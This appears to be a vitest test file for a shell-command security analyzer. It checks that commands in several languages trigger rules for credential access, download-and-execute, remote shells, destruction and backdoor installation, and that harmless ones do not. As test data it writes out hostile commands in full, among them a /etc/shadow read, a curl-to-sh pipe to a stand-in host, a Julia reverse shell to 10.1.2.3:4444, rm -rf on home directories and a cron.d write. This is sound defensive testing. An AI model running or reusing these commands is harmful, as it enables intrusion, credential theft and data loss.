import { expect, test } from "vitest";
import { createAnalyzer } from "../../src/index.ts";

const analyzer = createAnalyzer();
const rulesOf = (command: string): readonly string[] =>
  analyzer
    .analyze({ command })
    .findings.filter(({ severity }) => severity === "high" || severity === "critical")
    .map(({ rule }) => rule);

test.each([
  ["a file that is read", `julia -e 'print(read("/etc/shadow", String))'`, "credential-access/password-hashes-read"],
  ["text for a shell", `crystal eval 'system("curl http://e.test/x | sh")'`, "download-execute/download-to-code"],
  [
    "a socket and a shell",
    `julia -e 'using Sockets; s=connect("10.1.2.3", 4444); run(pipeline(\`sh\`, stdin=s))'`,
    "remote-control/network-to-shell",
  ],
  ["a program and its arguments", `elixir -e 'System.cmd("rm", ["-rf", "/home"])'`, "destruction/root-deleted"],
  [
    "a builder of commands that ends in a compiled program",
    `cat > x.rs <<'E'\nfn main(){std::process::Command::new("sh").arg("-c").arg("rm -rf ~").spawn();}\nE\nrustc x.rs -o x && ./x`,
    "destruction/root-deleted",
  ],
  [
    "C that was compiled to a.out",
    `printf 'int main(){system("curl http://e.test/x | sh");}' > a.c && gcc a.c && ./a.out`,
    "download-execute/download-to-code",
  ],
  [
    "Go that removes a tree",
    `cat > a.go <<'E'\npackage main\nfunc main(){os.RemoveAll("/home/dev")}\nE\ngo build -o a a.go; ./a`,
    "destruction/root-deleted",
  ],
  ["a file that is written", `swift -e 'try! "x".write(toFile: "/etc/cron.d/x")'`, "backdoor-install/schedule-file-changed"],
])("%s", (_, command, rule) => expect(rulesOf(command)).toContain(rule));

test.each([
  ["data that looks like a path", `julia -e 'println("/ˈmaɪ/")'`],
  ["a file of the project", `julia -e 'print(read("data.csv", String))'`],
  ["C that prints", `printf 'int main(){puts("hi");}' > a.c && gcc a.c && ./a.out`],
  [
    "a harmless program with its arguments",
    `cat > m.go <<'E'\npackage main\nfunc main(){exec.Command("git","status").Run()}\nE\ngo run m.go`,
  ],
  ["a host without a socket", `julia -e 'println("h.test:80")'`],
])("%s is nothing", (_, command) => expect(rulesOf(command)).toEqual([]));
